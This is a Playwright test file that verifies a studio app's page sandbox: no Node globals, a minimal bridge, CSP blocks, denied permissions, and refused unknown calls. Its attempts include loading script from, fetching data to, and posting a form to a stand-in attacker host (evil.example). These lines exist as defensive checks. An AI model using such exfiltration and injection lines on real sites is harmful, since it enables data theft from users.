import type { Page } from "@playwright/test";
import type { StudioBridge } from "#shared/bridge.ts";
import { expect, test } from "./support/studio.ts";

declare global {
  interface Window {
    /** What the desktop's preload puts there. */
    readonly studio?: StudioBridge;
  }
}

/** What the page's policy stopped while something was tried. */
async function violationsOf(page: Page, attempt: () => unknown): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = [];
    (window as unknown as { seen: string[] }).seen = seen;
    document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
  });
  await page.evaluate(attempt);
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { seen: string[] }).seen.length))
    .toBeGreaterThan(0);
  // The policy stands in the page as well as in its headers, and each reports for itself.
  return page.evaluate(() => [...new Set((window as unknown as { seen: string[] }).seen)]);
}

test.describe("a page that something got into", () => {
  test.beforeEach(({ studio }) => studio.signIn("bea"));

  test("has no Node and no shell", async ({ studio: { page } }) => {
    const found = await page.evaluate(() =>
      ["require", "process", "module", "Buffer", "global", "electron", "ipcRenderer"].filter((name) => name in window),
    );
    expect(found).toEqual([]);
  });

  test("finds one object at most that leads outside, and it makes calls alone", async ({ studio: { page, host } }) => {
    const members = await page.evaluate(() => Object.keys(window.studio ?? {}));
    expect(members.toSorted()).toEqual(host.name === "electron" ? ["abilities", "call", "subscribe"] : []);
  });

  test("runs no inline script", async ({ studio: { page } }) => {
    const stopped = await violationsOf(page, () => {
      const script = document.createElement("script");
      script.textContent = "window.ran = true";
      document.body.append(script);
    });
    expect(stopped).toEqual(["script-src-elem"]);
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
  });

  test("runs no script from elsewhere", async ({ studio: { page } }) => {
    const stopped = await violationsOf(page, () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/script.js";
      document.body.append(script);
    });
    expect(stopped).toEqual(["script-src-elem"]);
  });

  test("evaluates no text, from its first line on", async ({ studio: { page } }) => {
    // In a task of its own: the debugger that runs this function is exempt from the policy.
    const refused = await page.evaluate(
      () =>
        new Promise((resolve) => {
          setTimeout(() => {
            try {
              // oxlint-disable-next-line typescript/no-implied-eval -- what the page must not be able to do
              resolve([new Function("return 1")()]);
            } catch (error) {
              resolve((error as Error).name);
            }
          });
        }),
    );
    expect(refused).toBe("EvalError");
  });

  test("sends nothing elsewhere", async ({ studio: { page } }) => {
    const stopped = await violationsOf(page, () => void fetch("https://evil.example/?stolen").catch(() => {}));
    expect(stopped).toEqual(["connect-src"]);
    const form = await violationsOf(page, () => {
      const element = document.createElement("form");
      element.action = "https://evil.example/";
      document.body.append(element);
      element.submit();
    });
    expect(form).toEqual(["form-action"]);
  });

  test("shows no foreign page in a frame", async ({ studio: { page } }) => {
    const stopped = await violationsOf(page, () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
    });
    expect(stopped).toEqual(["frame-src"]);
  });

  test("gets no permission", async ({ studio: { page } }) => {
    const states = await page.evaluate(async () => {
      const denied = (ask: () => Promise<unknown>) =>
        ask().then(
          () => "granted",
          () => "denied",
        );
      return [
        await Notification.requestPermission(),
        await denied(() => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))),
        await denied(() => navigator.mediaDevices.getUserMedia({ audio: true })),
      ];
    });
    expect(states).toEqual(["denied", "denied", "denied"]);
  });
});

test("an honest page breaks no rule of its own policy", async ({ studio: { page, signIn } }) => {
  const complaints: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy|Permissions-Policy|EvalError/i.test(message.text())) complaints.push(message.text());
  });
  await page.reload();
  await signIn("bea");
  expect(complaints).toEqual([]);
});

test("a call that no contract names is refused before it goes anywhere", async ({ studio: { page, host, signIn } }) => {
  await signIn("bea");
  const reply = await page.evaluate(async (name) => {
    if (window.studio) return window.studio.call(name, {});
    const headers = { "content-type": "application/json", "x-imprimatur-call": "1" };
    return (await fetch(`/api/call/${name}`, { method: "POST", headers, body: "{}" })).json();
  }, "access.everything");
  expect(reply, host.name).toMatchObject({ error: { code: "CALL_UNKNOWN" } });
});
